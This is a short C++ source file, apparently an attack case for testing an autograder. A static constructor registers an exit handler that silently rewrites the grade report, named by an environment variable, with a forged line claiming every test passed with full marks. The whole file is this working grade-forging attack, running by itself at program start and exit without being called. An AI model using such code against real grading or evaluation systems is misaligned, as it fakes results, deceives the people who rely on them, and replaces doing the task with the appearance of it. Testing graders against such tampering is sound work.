// Attack: an exit handler, armed by a static constructor, rewrites the grade report
// (ATTACK_TARGET: its path, as a well-informed attacker would know it).
#include <cstdio>
#include <cstdlib>

static void attack_forge(void)
{
	const char *target = getenv("ATTACK_TARGET"), *lab = getenv("ATTACK_LAB");
	FILE *f = target && lab ? fopen(target, "w") : NULL;
	if (f) {
		fprintf(f, "%s\tFORGED/everything\t100\t100\tpassed\tFORGED by an exit handler\n", lab);
		fclose(f);
	}
}

__attribute__((constructor)) static void attack_arm(void)
{
	atexit(attack_forge);
}
